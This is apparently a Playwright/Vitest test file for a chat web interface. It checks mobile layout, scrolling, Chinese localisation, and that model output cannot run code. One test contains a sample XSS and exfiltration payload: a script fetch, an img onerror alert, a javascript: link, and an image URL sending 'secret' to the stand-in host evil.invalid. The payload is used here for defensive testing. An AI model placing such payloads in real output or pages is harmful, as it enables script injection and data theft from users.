/** What must hold whatever the model says: here the test itself is the server, in a real browser. */
import type { Browser, BrowserContextOptions, WebSocketRoute } from "playwright-core";
import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
import { launch, Visit } from "./browser";

let browser: Browser;
let visit: Visit;
let server: WebSocketRoute | undefined;

beforeAll(async () => {
  browser = await launch();
});
afterAll(() => browser?.close());
afterEach(async () => {
  expect(visit.problems).toEqual([]);
  await visit.page.context().close();
});

async function start(options: BrowserContextOptions): Promise<void> {
  visit = await Visit.start(browser, options, (page) =>
    page.routeWebSocket(/\/api\/v1\/ws\/chat$/, (route) => {
      server = route;
    }),
  );
  await visit.link("open");
}

function says(...frames: object[]): void {
  for (const frame of frames) server?.send(JSON.stringify(frame));
}

test("a phone shows long words without scrolling sideways, with type that does not zoom", async () => {
  await start({
    viewport: { width: 390, height: 844 },
    isMobile: true,
    hasTouch: true,
    deviceScaleFactor: 2,
  });
  await visit.ask("Donaudampfschifffahrtsgesellschaft".repeat(5));
  says(
    { type: "delta", content: `${"x".repeat(300)}\n\t\tone two three` },
    { type: "error", message: "y".repeat(200) },
  );
  await visit.turn(0, "failed");
  const hiddenSideways = ["html", ".scroller", "textarea"].map((part) =>
    visit.page.locator(part).evaluate((it) => it.scrollWidth - it.clientWidth),
  );
  expect(await Promise.all(hiddenSideways)).toEqual([0, 0, 0]);
  expect(await visit.input.evaluate((it) => getComputedStyle(it).fontSize)).toBe("16px");
  await visit.screenshot("phone");
});

test("a reader who has scrolled up is left alone, and one press leads back to the end", async () => {
  await start({ viewport: { width: 800, height: 500 } });
  const scroller = visit.page.locator(".scroller");
  const place = () => scroller.evaluate((it) => [it.scrollTop, it.scrollHeight - it.clientHeight] as const);
  const lines = (from: number) => Array.from({ length: 60 }, (_, at) => `line ${from + at}\n`).join("");
  await visit.ask("count");
  says({ type: "delta", content: lines(0) });
  await visit.page.getByText("line 59").waitFor();
  await expect.poll(async () => (await place())[0]).toBe((await place())[1]);
  await scroller.hover();
  await visit.page.mouse.wheel(0, -400);
  const latest = visit.page.getByRole("button", { name: "Jump to the latest" });
  await latest.waitFor();
  const [before] = await place();
  says({ type: "delta", content: lines(60) });
  await visit.page.getByText("line 119").waitFor();
  expect((await place())[0]).toBe(before);
  await latest.click();
  says({ type: "delta", content: lines(120) }, { type: "done" });
  await visit.turn(0, "done");
  await expect.poll(async () => (await place())[0]).toBe((await place())[1]);
});

test("nothing the model says runs or fetches anything", async () => {
  const answer =
    '<script>fetch("http://evil.invalid/")</script><img src="http://evil.invalid/" onerror="alert(1)">\n' +
    "[link](javascript:alert(1)) ![image](http://evil.invalid/?q=secret) \u202E gnorw";
  await start({});
  visit.page.on("dialog", (dialog) => visit.problems.push(`dialog: ${dialog.message()}`));
  await visit.ask("attack");
  says({ type: "delta", content: answer }, { type: "done" });
  await visit.turn(0, "done");
  expect(await visit.answers()).toEqual([answer]);
  expect(await visit.page.locator("main :is(script, img, a, iframe)").count()).toBe(0);
});

test("a Chinese browser gets a Chinese page", async () => {
  await start({ locale: "zh-CN", colorScheme: "dark", viewport: { width: 390, height: 844 } });
  await visit.ask("你好");
  says({ type: "delta", content: "你好！有什么可以帮你？" }, { type: "done" });
  await visit.turn(0, "done");
  await visit.screenshot("chinese");
  expect(await visit.page.locator("html").getAttribute("lang")).toBe("zh-CN");
  expect(await visit.page.getByRole("button").allTextContents()).toEqual(["新对话", "发送"]);
});
